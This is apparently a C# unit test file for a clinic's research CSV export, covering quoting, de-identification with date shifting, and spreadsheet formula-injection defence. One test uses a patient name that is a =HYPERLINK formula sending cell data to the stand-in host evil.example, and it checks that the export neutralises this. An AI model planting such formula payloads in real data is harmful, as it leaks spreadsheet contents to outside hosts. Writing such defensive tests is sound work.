using System.Globalization;
using System.Text;
using KetaCare.Clinic.Patients;
using KetaCare.Clinic.Services;
using KetaCare.Interop.Csv;
using KetaCare.Pharmacology.Models;

namespace KetaCare.Interop.Tests.Csv;

public sealed class ResearchExportTests
{
    private const string AwkwardFamily = "O\"Brien, Jr";

    /// <summary>An RFC 4180 reader written for the test, independent of the writer.</summary>
    internal static List<Dictionary<string, string>> Parse(string csv)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add(row);
                row = [];
                i++;
            }
            else
            {
                field.Append(c);
            }
        }

        Assert.Empty(row);
        var header = rows[0];
        Assert.All(rows, r => Assert.Equal(header.Count, r.Count));
        return [.. rows.Skip(1).Select(r => header.Zip(r).ToDictionary(p => p.First, p => p.Second, StringComparer.Ordinal))];
    }

    private static async Task<(SeededDatabase Db, IReadOnlyList<PatientSummary> Patients)> SeedWithAwkwardNameAsync()
    {
        var db = await SeededDatabase.CreateAsync();
        await using var c = db.Open();
        var registered = await new PatientService(c, db.Clock).RegisterAsync(new Demographics("MRN-Q1", "Şükrü", AwkwardFamily, new DateOnly(1930, 2, 3), Sex.Male), SeededDatabase.Reader, TestContext.Current.CancellationToken);
        Assert.True(registered.IsSuccess);
        return (db, await new PatientService(c, db.Clock).SearchAsync(null, TestContext.Current.CancellationToken));
    }

    [Fact]
    public async Task Export_Identified_NameThatIsAFormula_IsWrittenAsTextNotRunBySpreadsheets()
    {
        var db = await SeededDatabase.CreateAsync();
        await using var _db = db;
        await using var c = db.Open();
        const string formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")";
        var registered = await new PatientService(c, db.Clock).RegisterAsync(new Demographics("MRN-F1", formula, "@Formula", new DateOnly(1970, 1, 1), Sex.Female), SeededDatabase.Reader, TestContext.Current.CancellationToken);
        Assert.True(registered.IsSuccess, registered.Error);

        var files = await new ResearchExport(c, db.Clock).ExportAsync(deidentify: false, SeededDatabase.Reader, TestContext.Current.CancellationToken);

        var row = Parse(files.OutcomesCsv).Single(r => r["mrn"] == "MRN-F1");
        Assert.Equal("'" + formula, row["given_name"]);
        Assert.Equal("'@Formula", row["family_name"]);
    }

    [Fact]
    public async Task Export_Identified_QuotesANameWithCommaAndQuoteAndWritesInvariantUtcFields()
    {
        var (db, _) = await SeedWithAwkwardNameAsync();
        await using var _db = db;
        await using var c = db.Open();

        var files = await new ResearchExport(c, db.Clock).ExportAsync(deidentify: false, SeededDatabase.Reader, TestContext.Current.CancellationToken);

        Assert.StartsWith("patient_id,mrn,given_name,family_name,birth_date,session,", files.SessionsCsv, StringComparison.Ordinal);
        Assert.Contains("\"O\"\"Brien, Jr\"", files.OutcomesCsv, StringComparison.Ordinal);
        var outcomes = Parse(files.OutcomesCsv);
        Assert.Equal(4, outcomes.Count);
        Assert.Equal(AwkwardFamily, outcomes.Single(r => r["mrn"] == "MRN-Q1")["family_name"]);
        // The responder status's compared score is a follow-up (5), not the second session's in-session 3; the chart's allergy
        // state travels with the course.
        var demoCourse = outcomes.Single(r => r["mrn"] == "DEMO-0001");
        Assert.Equal(("5", "FollowUp", "NoKnownAllergies", "0"), (demoCourse["responder_compared_nrs"], demoCourse["responder_compared_kind"], demoCourse["allergy_state"], demoCourse["ketamine_allergy"]));
        Assert.Equal("Allergies", outcomes.Single(r => r["mrn"] == "DEMO-0002")["allergy_state"]);
        Assert.Equal(("24", "21", "Normal", string.Empty, "0"), (demoCourse["alt_latest_u_l"], demoCourse["ast_latest_u_l"], demoCourse["liver_flag_latest"], demoCourse["qtc_latest_ms"], demoCourse["investigations_not_done"]));
        Assert.Equal("428", outcomes.Single(r => r["mrn"] == "DEMO-0002")["qtc_latest_ms"]);
        var sessions = Parse(files.SessionsCsv);
        Assert.Equal(3, sessions.Count);
        Assert.All(sessions, s =>
        {
            Assert.True(DateTimeOffset.TryParseExact(s["start_utc"], "yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture, DateTimeStyles.AssumeUniversal, out _), s["start_utc"]);
            Assert.True(double.Parse(s["dose_given_mg"], CultureInfo.InvariantCulture) > 0);
            Assert.DoesNotContain(",", s["dose_given_mg"], StringComparison.Ordinal);
            Assert.True(double.Parse(s["predicted_peak_plasma_ng_ml"], CultureInfo.InvariantCulture) > 0);
        });
        var crps = sessions.Where(s => s["mrn"] == "DEMO-0001").OrderBy(s => s["start_utc"], StringComparer.Ordinal).ToList();
        Assert.Equal(("7", "5"), (crps[0]["pain_before"], crps[0]["pain_after"]));
    }

    [Fact]
    public async Task Export_Deidentified_HasNoNameMrnOrBirthDateAndShiftedDatesKeepIntervals()
    {
        var (db, patients) = await SeedWithAwkwardNameAsync();
        await using var _db = db;
        await using var c = db.Open();
        var export = new ResearchExport(c, db.Clock);

        var plain = await export.ExportAsync(deidentify: false, SeededDatabase.Reader, TestContext.Current.CancellationToken);
        var files = await export.ExportAsync(deidentify: true, SeededDatabase.Reader, TestContext.Current.CancellationToken);

        foreach (var text in new[] { files.SessionsCsv, files.OutcomesCsv })
        {
            foreach (var p in patients)
            {
                foreach (var secret in new[] { p.GivenName, p.FamilyName, p.MedicalRecordNumber, p.BirthDate.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture), p.Id.ToString() })
                {
                    Assert.DoesNotContain(secret, text, StringComparison.OrdinalIgnoreCase);
                }
            }
        }

        Assert.StartsWith("patient,age_years,session,", files.SessionsCsv, StringComparison.Ordinal);
        var outcomes = Parse(files.OutcomesCsv);
        Assert.Contains(outcomes, r => r["age_years"] == "90+");

        // Rows of one patient are matched by their doses (the mapping is never written); each patient's dates move by
        // one whole number of days, 30–365, and every interval between that patient's times stays the same.
        var original = Parse(plain.SessionsCsv);
        var shifted = Parse(files.SessionsCsv);
        foreach (var group in shifted.GroupBy(r => r["patient"]))
        {
            var rows = group.OrderBy(r => r["start_utc"], StringComparer.Ordinal).ToList();
            var matches = rows.Select(r => original.Single(o => o["dose_given_mg"] == r["dose_given_mg"] && o["pain_before"] == r["pain_before"])).ToList();
            var offsets = rows.Zip(matches).SelectMany(p => new[] { Iso(p.First["start_utc"]) - Iso(p.Second["start_utc"]), Iso(p.First["end_utc"]) - Iso(p.Second["end_utc"]) }).Distinct().ToList();
            var offset = Assert.Single(offsets);
            Assert.Equal(0, offset.Ticks % TimeSpan.TicksPerDay);
            Assert.InRange(Math.Abs(offset.TotalDays), ResearchExport.MinShiftDays, ResearchExport.MaxShiftDays);
            Assert.Single(matches.Select(m => m["mrn"]).Distinct());
        }

        static DateTimeOffset Iso(string iso) => DateTimeOffset.ParseExact(iso, "yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture, DateTimeStyles.AssumeUniversal);
    }

    [Fact]
    public void Quote_FieldsNeedingIt_AreQuotedWithDoubledQuotes()
    {
        Assert.Equal("plain", CsvWriter.Quote("plain"));
        Assert.Equal("\"a,b\"", CsvWriter.Quote("a,b"));
        Assert.Equal("\"say \"\"hi\"\"\"", CsvWriter.Quote("say \"hi\""));
        Assert.Equal("\"two\r\nlines\"", CsvWriter.Quote("two\r\nlines"));
    }
}
